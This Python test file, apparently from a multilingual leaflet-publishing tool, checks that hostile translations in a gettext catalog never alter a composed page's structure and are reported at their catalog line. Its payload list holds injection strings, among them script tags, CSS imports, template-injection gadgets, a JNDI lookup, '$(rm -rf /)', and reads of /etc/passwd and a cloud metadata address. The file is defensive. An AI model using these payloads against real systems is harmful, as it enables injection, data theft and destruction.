"""Catalogs come from strangers: what they write stays words, or is refused.

Two fences, tested apart: the checks tell of hostile text at its line, and behind
them no text whatever changes a page's structure, whether the checks saw it or not.
"""

import re
import tempfile
from contextlib import nullcontext
from dataclasses import replace
from functools import cache
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hostile import HOSTILE
from leaflets.build.front import analyse, judge, localize_document
from leaflets.diagnostics import LeafletsError, Severity
from leaflets.pages.compose import ComposeInputs, compose
from leaflets.pages.composition import Composition
from leaflets.sources.material import Material, read_material
from tiny import write_project

BREAKING = [
    "</p></div><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//e.org/a.css>",
    "<iframe src=file:///etc/passwd>",
    "<object data=x>",
    "<base href=//e.org>",
    "<?xml version='1.0'?>",
    "<![CDATA[x]]>",
    "&lt;script&gt;",
    "&#106;avascript:",
    "} body { display: none } {",
    "\\22 ; } * { color: white",
    "'; } @import url(https://e.org/a.css); {",
    "url(file:///etc/passwd)",
    "url(http://169.254.169.254/latest)",
    "expression(javascript:alert(1)) {",
    "{% for a in b %}{% endfor %}",
    "{{ config.items() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{# comment #}",
    "{hours.__init__.__globals__}",
    "{hours!r:>{width}}",
    "{0.__class__}",
    "%(hours)d %n",
    "${jndi:ldap://e.org/a}",
    "$(rm -rf /) {",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x)",
    "[a]: https://e.org",
    "<https://e.org>",
    "![](file:///dev/zero)",
    "file:///etc/passwd",
    "ftp://e.org/a",
    "tel:+4911",
    "\u202eabc\u202c",
    "\u2066\u2066\u2066a",
    "\u2069\u2069",
    "\u200b\u200b",
    "\u0000",
    "a\u0007b",
    "\x1b]8;;https://e.org\x07a",
    "ａｂｃ",
    "a" + "\u0301" * 900,
    "\U000e0041\U000e0042",
    "\ue000",
    "+++\ntitle = 1\n+++",
    "```\ncode\n```",
    "::: warning\nx\n:::",
    "| a | b |\n|---|---|",
    "    code",
    "# H\n# H",
    "[" * 1500 + "a" + "](x)" * 1500,
    "**" * 900,
    "((((" * 400,
    "> " * 400 + "a",
    "a" * 1_000_000,
    "0" * 1_500,
]
PLACES = {
    "paragraph": "You cannot breathe.",
    "title": "A tiny leaflet",
    "label": "A box to look at",
    "alt": "A box and a line",
    "furniture": "Where this comes from",
    "stylesheet": "Version {version}",
}


@cache
def tiny_material() -> Material:
    """Read the tiny project once."""
    root = Path(tempfile.mkdtemp()) / "project"
    write_project(root)
    return read_material(root)[0]


def with_words(text: str, words: str) -> Material:
    """Put any words for a text into the Arabic catalog, past all checks."""
    material = tiny_material()
    catalog = material.catalogs["ar"]
    messages = tuple(
        replace(one, translation=words, fuzzy=False) if one.text == text else one
        for one in catalog.messages
    )
    return replace(
        material,
        catalogs={**material.catalogs, "ar": replace(catalog, messages=messages)},
    )


SURROGATE = re.compile("[\ud800-\udfff]")
"""Half of a letter, which no file in UTF-8 holds and nothing prints."""


def composed(material: Material) -> Composition | None:
    """Compose the Arabic sheet; none where the words cannot be set at all."""
    locale = material.project.locale("ar")
    assert locale
    (document,) = material.documents
    standing = judge(material)["ar", "tiny"]
    localized = localize_document(material, document, locale, standing).localized
    if localized is None:
        return None
    made, _ = compose(
        localized,
        material.project.editions[0],
        "A4",
        ComposeInputs(
            material.project,
            material.evidence,
            material.family,
            ("tiny",),
            material.templates,
        ),
    )
    return made


class Skeleton(HTMLParser):
    """Gathers all but the words: tags, attributes, comments."""

    def __init__(self) -> None:
        super().__init__()
        self.parts: list[object] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("strong", "a"):
            return  # the markup that a text may hold; its links are compared apart
        kept = [(name, value) for name, value in attrs if name != "alt"]
        self.parts.append((tag, *kept))

    def handle_endtag(self, tag: str) -> None:
        if tag not in ("strong", "a"):
            self.parts.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.parts.append(data)


def skeleton(composition: Composition) -> tuple[object, ...]:
    """Give what a translation must not change."""
    reader = Skeleton()
    reader.feed(composition.html)
    reader.close()
    sheet = re.sub(r'"(?:\\.|[^"\\])*"', '""', composition.stylesheet)
    sheet = re.sub(r'""(?:\s+"")*', '""', sheet)
    targets = sorted(re.findall(r'<a href="([^"]*)"', composition.html))
    return (*reader.parts, sheet, *targets, *(one.name for one in composition.assets))


@cache
def sound() -> tuple[object, ...]:
    """Give the skeleton of the page with its right words."""
    made = composed(tiny_material())
    assert made
    return skeleton(made)


def without_counters(parts: tuple[object, ...]) -> tuple[object, ...]:
    """Leave out where a translation puts the page's number among its words."""
    return tuple(
        re.sub(r'(?:""|counter\(\w+\)|\s)+', " ", one) if isinstance(one, str) else one
        for one in parts
    )


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("number", range(len([*BREAKING, *HOSTILE])))
def test_hostile_words_change_no_page(number: int, place: str) -> None:
    """Even unchecked, in every kind of place, they stay words or are no page."""
    hostile = [*BREAKING, *HOSTILE][number]
    material = with_words(PLACES[place], hostile)
    if SURROGATE.search(hostile):
        # A stylesheet writes it by its number; nothing else can be written at all.
        refuses = (
            pytest.raises(LeafletsError) if place != "stylesheet" else nullcontext()
        )
        with refuses:
            composed(material)
    elif made := composed(material):
        assert without_counters(skeleton(made)) == without_counters(sound())


@given(st.text(max_size=80), st.sampled_from(sorted(PLACES)))
def test_any_words_change_no_page(words: str, place: str) -> None:
    """Whatever a translator types, the blocks are those of the source."""
    made = composed(with_words(PLACES[place], words))
    if made:
        assert without_counters(skeleton(made)) == without_counters(sound())


def test_a_link_of_its_own_is_never_set() -> None:
    """Behind the check stands a fence that no waiver opens."""
    assert composed(with_words(PLACES["paragraph"], "[a](https://e.org)")) is None
    material = tiny_material()
    locale = material.project.locale("ar")
    assert locale
    (document,) = material.documents
    standing = judge(material)["ar", "tiny"]
    hostile = with_words(PLACES["paragraph"], "[a](https://e.org)")
    gaps = localize_document(hostile, document, locale, standing).gaps
    assert [gap.code for gap in gaps] == ["foreign-link"]


@pytest.mark.parametrize("number", range(len(BREAKING)))
def test_hostile_words_are_told_at_their_line(number: int, tiny: Path) -> None:
    """Nothing of it is printed: an error stands at the line of the catalog."""
    hostile = BREAKING[number]
    path = tiny / "locales" / "ar" / "LC_MESSAGES" / "messages.po"
    text = path.read_text(encoding="utf-8")
    before = 'msgstr "لا تستطيع التنفس."'
    assert before in text
    escaped = (
        hostile.replace("\\", "\\\\")
        .replace('"', '\\"')
        .replace("\n", "\\n")
        .replace("\0", "\\000")
    )
    path.write_text(text.replace(before, f'msgstr "{escaped}"'), encoding="utf-8")
    line = text[: text.index(before)].count("\n") + 1
    front = analyse(tiny)
    errors = [one for one in front.diagnostics if one.severity is Severity.ERROR]
    assert any(one.location.line == line for one in errors), hostile[:40]
    assert not any(one.target.locale == "ar" for one in front.compositions)
